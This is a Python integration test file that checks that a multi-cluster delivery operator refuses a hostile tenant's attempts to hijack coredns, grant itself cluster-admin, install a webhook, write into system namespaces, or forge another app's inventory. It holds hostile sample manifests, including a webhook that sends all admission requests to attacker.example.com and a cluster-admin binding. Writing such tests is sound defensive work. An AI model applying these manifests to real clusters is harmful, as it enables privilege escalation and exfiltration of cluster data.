"""Hole 6 — members are shared ground. A hostile tenant's application tries to take over objects
it did not create (coredns), to grant itself cluster-admin, to install admission webhooks, to
write into system namespaces and into other applications' inventories.

The real operator runs with the production defaults for tenants (no TenantPolicy selects the
namespace unless a test says so) against a real `local` member cluster. Every test asserts that
the attack fails with a message naming the object and the rule, and that nothing on the member
outside what the tenant may write changed.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from typing import Any

import pytest
import yaml
from lightkube import Client, KubeConfig
from lightkube.core.exceptions import ApiError
from lightkube.resources.admissionregistration_v1 import ValidatingWebhookConfiguration
from lightkube.resources.apps_v1 import Deployment
from lightkube.resources.core_v1 import ConfigMap, Secret
from lightkube.resources.rbac_authorization_v1 import ClusterRole, ClusterRoleBinding

from hybridcloud.controlplane import ControlPlane
from hybridcloud.kube.resources import HybridClusterResource, MultiClusterApplicationResource
from tests.integration.harness import (
    TENANT_DEFAULTS,
    OperatorProcess,
    condition,
    delivery_operator,
    eventually,
    fresh_namespace,
    wait_phase,
)
from tests.integration.test_application_delivery import (
    Repo,
    create_app,
    get_app,
    is_ready,
    wait_app,
)

from .policies import tenant_policy

pytestmark = pytest.mark.integration
APP_LABEL = "platform.example.com/application"
MEMBER = "solo"
COREDNS = """\
apiVersion: apps/v1
kind: Deployment
metadata: {name: coredns, namespace: kube-system}
spec:
  replicas: 1
  selector: {matchLabels: {k8s-app: kube-dns}}
  template:
    metadata: {labels: {k8s-app: kube-dns}}
    spec:
      containers: [{name: coredns, image: attacker.example.com/dns:evil}]
"""
CLUSTER_ADMIN = """\
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: tenant-takes-all}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
subjects: [{kind: ServiceAccount, name: default, namespace: tenant-apps}]
"""
WEBHOOK = """\
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata: {name: tenant-sees-everything}
webhooks:
  - name: spy.attacker.example.com
    admissionReviewVersions: [v1]
    sideEffects: None
    failurePolicy: Ignore
    clientConfig: {url: "https://attacker.example.com/review"}
    rules: [{operations: ["*"], apiGroups: ["*"], apiVersions: ["*"], resources: ["*"]}]
"""
HARMLESS = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: harmless}\ndata: {a: b}\n"


def config_map(name: str, namespace: str, **data: str) -> str:
    return yaml.safe_dump({"apiVersion": "v1", "kind": "ConfigMap",
                           "metadata": {"name": name, "namespace": namespace}, "data": data})


# -- fixtures ------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def tenant(kube: Client) -> Iterator[str]:
    with fresh_namespace(kube, "tenant") as name:
        yield name


@pytest.fixture(scope="module")
def operator(management: ControlPlane, tenant: str,
             tmp_path_factory: pytest.TempPathFactory) -> Iterator[OperatorProcess]:
    # The production defaults: no cluster-scoped kinds, no CRDs, no kube-* namespaces.
    with delivery_operator(management.kubeconfig, tenant, tmp_path_factory.mktemp("operator"),
                           **{TENANT_DEFAULTS: "{}"}) as process:
        yield process


@pytest.fixture(scope="module")
def member(kube: Client, tenant: str, operator: OperatorProcess) -> Client:
    """The tenant's `local` member cluster, seen with its admin credentials."""
    kube.create(HybridClusterResource.from_dict({
        "apiVersion": "platform.example.com/v1", "kind": "HybridCluster",
        "metadata": {"name": MEMBER},
        "spec": {"provider": "local", "version": "v1.37.2",
                 "nodeGroups": [{"name": "workers", "size": 1}]}}), namespace=tenant)
    wait_phase(kube, tenant, MEMBER, "Active", operator, timeout=180)
    secret = kube.get(Secret, name=f"{MEMBER}-kubeconfig", namespace=tenant)
    text = base64.b64decode((secret.data or {})["value"]).decode()
    return Client(config=KubeConfig.from_dict(yaml.safe_load(text)),
                  field_manager="member-admin")


@pytest.fixture
def repo(tmp_path: Any) -> Repo:
    return Repo(tmp_path)


# -- helpers -------------------------------------------------------------------------------------

def deploy(kube: Client, tenant: str, name: str, repo: Repo, files: dict[str, str],
           target: str = "tenant-apps") -> str:
    repo.commit(files)
    return create_app(kube, tenant, name, repo, "manifests", targetNamespace=target,
                      placement=[{"cluster": MEMBER}],
                      syncPolicy={"automated": True, "prune": True, "selfHeal": True})


def stalled_by_policy(obj: dict[str, Any]) -> bool:
    stalled = condition(obj, "Stalled") or {}
    return stalled.get("status") == "True" and stalled.get("reason") == "PolicyViolation" and \
        obj["status"].get("observedGeneration") == obj["metadata"]["generation"]


def synced_message(obj: dict[str, Any]) -> str:
    return str((condition(obj, "Synced") or {}).get("message", ""))


def missing(member: Client, resource: Any, name: str, namespace: str | None = None) -> bool:
    try:
        member.get(resource, name, namespace=namespace)
    except ApiError as exc:
        if exc.status.code == 404:
            return True
        raise
    return False


def inventory(member: Client, uid: str) -> dict[str, str] | None:
    try:
        return dict(member.get(ConfigMap, f"app-{uid}", namespace="hybridcloud-system").data
                    or {})
    except ApiError as exc:
        if exc.status.code == 404:
            return None
        raise


def delete_app(kube: Client, tenant: str, name: str, operator: OperatorProcess) -> None:
    kube.delete(MultiClusterApplicationResource, name, namespace=tenant)
    eventually(lambda: get_app(kube, tenant, name) is None, timeout=60,
               message=lambda: f"{name} not deleted\n{operator.tail(30)}")


def untouched_by_delivery(obj: Any) -> bool:
    labels = obj.metadata.labels or {}
    managers = {f.manager for f in obj.metadata.managedFields or []}
    return APP_LABEL not in labels and "hybridcloud-delivery" not in managers


# -- the attacks ---------------------------------------------------------------------------------

def test_an_existing_object_is_never_adopted_and_survives_the_deletion_of_the_app(
        kube: Client, tenant: str, operator: OperatorProcess, member: Client,
        repo: Repo) -> None:
    member.create(Deployment.from_dict(yaml.safe_load(
        COREDNS.replace("attacker.example.com/dns:evil", "registry.k8s.io/coredns:v1.11.1"))))
    before = member.get(Deployment, "coredns", namespace="kube-system")
    # Even where the platform lets the tenant write into kube-system, what exists is not its.
    with tenant_policy(kube, tenant, delivery={"allowedNamespaces": ["kube-system",
                                                                     "tenant-apps"]}):
        deploy(kube, tenant, "dns-grab", repo, {"manifests/coredns.yaml": COREDNS})
        obj = wait_app(kube, tenant, "dns-grab", operator, lambda o: "exists and is not managed"
                       in synced_message(o), "conflict reported")
        assert "coredns.yaml:1: Deployment kube-system/coredns: exists and is not managed by "\
            "this application" in synced_message(obj)
        [record] = obj["status"]["deployments"]
        assert record["status"] == "Failed" and "Deployment kube-system/coredns" in \
            record["message"]
        live = member.get(Deployment, "coredns", namespace="kube-system")
        assert live.metadata.generation == before.metadata.generation  # spec never written
        assert live.metadata.labels == before.metadata.labels
        assert untouched_by_delivery(live)
        uid = obj["metadata"]["uid"]
        assert "coredns" not in (inventory(member, uid) or {}).get("objects", "")
        delete_app(kube, tenant, "dns-grab", operator)
    after = member.get(Deployment, "coredns", namespace="kube-system")
    assert after.metadata.uid == before.metadata.uid, "coredns was deleted (and re-created?)"
    assert after.metadata.generation == before.metadata.generation
    assert after.spec.template.spec.containers[0].image == "registry.k8s.io/coredns:v1.11.1"
    assert untouched_by_delivery(after)


@pytest.mark.parametrize(("manifest", "resource", "name", "kind"), [
    (CLUSTER_ADMIN, ClusterRoleBinding, "tenant-takes-all",
     "rbac.authorization.k8s.io/ClusterRoleBinding"),
    (WEBHOOK, ValidatingWebhookConfiguration, "tenant-sees-everything",
     "admissionregistration.k8s.io/ValidatingWebhookConfiguration"),
], ids=["cluster-admin-binding", "validating-webhook"])
def test_cluster_scoped_kinds_are_refused_by_default_and_nothing_of_the_render_is_applied(
        kube: Client, tenant: str, operator: OperatorProcess, member: Client, repo: Repo,
        manifest: str, resource: Any, name: str, kind: str) -> None:
    app = f"grab-{name}"[:40]
    uid = deploy(kube, tenant, app, repo, {"manifests/a-harmless.yaml": HARMLESS,
                                           "manifests/escalate.yaml": manifest})
    obj = wait_app(kube, tenant, app, operator, stalled_by_policy, "Stalled/PolicyViolation")
    message = synced_message(obj)
    assert f"cluster {MEMBER}: escalate.yaml:1: {kind.rpartition('/')[2]} {name}: " \
        f"cluster-scoped kind {kind} is not in spec.delivery.allowedClusterKinds" in message
    assert obj["status"]["phase"] == "Failed"
    assert missing(member, resource, name)
    assert missing(member, ConfigMap, "harmless", "tenant-apps"), "the whole render is refused"
    assert inventory(member, uid) is None, "nothing at all was written"
    delete_app(kube, tenant, app, operator)


@pytest.mark.parametrize("namespace", ["kube-system", "hybridcloud-system"])
def test_manifests_targeting_system_namespaces_are_refused(
        kube: Client, tenant: str, operator: OperatorProcess, member: Client, repo: Repo,
        namespace: str) -> None:
    app = f"into-{namespace}"
    deploy(kube, tenant, app, repo,
           {"manifests/sneak.yaml": config_map("sneaky", namespace, planted="yes")})
    obj = wait_app(kube, tenant, app, operator, stalled_by_policy, "Stalled/PolicyViolation")
    assert f"sneak.yaml:1: ConfigMap {namespace}/sneaky: namespace {namespace}" in \
        synced_message(obj)
    assert missing(member, ConfigMap, "sneaky", namespace)
    # spec.targetNamespace is no way around it either.
    delete_app(kube, tenant, app, operator)
    deploy(kube, tenant, f"{app}-t", repo, {"manifests/sneak.yaml": HARMLESS}, target=namespace)
    wait_app(kube, tenant, f"{app}-t", operator, stalled_by_policy, "Stalled/PolicyViolation")
    assert missing(member, ConfigMap, "harmless", namespace)
    delete_app(kube, tenant, f"{app}-t", operator)


def test_another_applications_inventory_and_objects_are_untouched(
        kube: Client, tenant: str, operator: OperatorProcess, member: Client,
        tmp_path: Any) -> None:
    for folder in ("victim", "forger", "claimer"):
        (tmp_path / folder).mkdir()
    victim_repo, forger_repo = Repo(tmp_path / "victim"), Repo(tmp_path / "forger")
    claimer_repo = Repo(tmp_path / "claimer")
    victim = deploy(kube, tenant, "victim", victim_repo,
                    {"manifests/settings.yaml": config_map("settings", "shared", mode="safe")},
                    target="shared")
    wait_app(kube, tenant, "victim", operator, is_ready, "Ready")
    victim_inventory = inventory(member, victim)
    assert victim_inventory and "settings" in victim_inventory["objects"]
    # 1. Empty the victim's inventory so its objects are forgotten (or pruned by mistake).
    forged = config_map(f"app-{victim}", "hybridcloud-system", objects="[]",
                        application=f"{tenant}/victim")
    deploy(kube, tenant, "forger", forger_repo, {"manifests/forged.yaml": forged})
    obj = wait_app(kube, tenant, "forger", operator, stalled_by_policy,
                   "Stalled/PolicyViolation")
    assert f"ConfigMap hybridcloud-system/app-{victim}: namespace hybridcloud-system is " \
        "reserved for the platform" in synced_message(obj)
    assert inventory(member, victim) == victim_inventory
    delete_app(kube, tenant, "forger", operator)
    # 2. Claim the victim's object by name, then get deleted (and pruned): it stays the victim's.
    claimer_repo.commit({"manifests/claim.yaml": config_map("settings", "shared",
                                                            mode="attacker")})
    create_app(kube, tenant, "claimer", claimer_repo, "manifests", targetNamespace="shared",
               placement=[{"cluster": MEMBER}], syncPolicy={"automated": True, "prune": True})
    obj = wait_app(kube, tenant, "claimer", operator, lambda o: "exists and is not managed"
                   in synced_message(o), "conflict reported")
    assert "ConfigMap shared/settings: exists and is not managed by this application" in \
        synced_message(obj)
    delete_app(kube, tenant, "claimer", operator)
    live = member.get(ConfigMap, "settings", namespace="shared")
    assert live.data == {"mode": "safe"} and (live.metadata.labels or {})[APP_LABEL] == victim
    assert inventory(member, victim) == victim_inventory
    assert json.loads(victim_inventory["objects"])


def test_a_tenant_policy_that_allows_a_kind_lets_it_through(
        kube: Client, tenant: str, operator: OperatorProcess, member: Client,
        repo: Repo) -> None:
    role = yaml.safe_dump({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole",
                           "metadata": {"name": "tenant-pod-reader"},
                           "rules": [{"apiGroups": [""], "resources": ["pods"],
                                      "verbs": ["get", "list"]}]})
    uid = deploy(kube, tenant, "reader", repo, {"manifests/role.yaml": role})
    wait_app(kube, tenant, "reader", operator, stalled_by_policy, "Stalled/PolicyViolation")
    assert missing(member, ClusterRole, "tenant-pod-reader")
    with tenant_policy(kube, tenant, delivery={"allowedClusterKinds": [
            "rbac.authorization.k8s.io/ClusterRole"]}):
        # The policy change alone (no edit of the app) lets it through.
        wait_app(kube, tenant, "reader", operator, is_ready, "Ready")
        live = member.get(ClusterRole, "tenant-pod-reader")
        assert (live.metadata.labels or {})[APP_LABEL] == uid
        delete_app(kube, tenant, "reader", operator)
        assert missing(member, ClusterRole, "tenant-pod-reader")
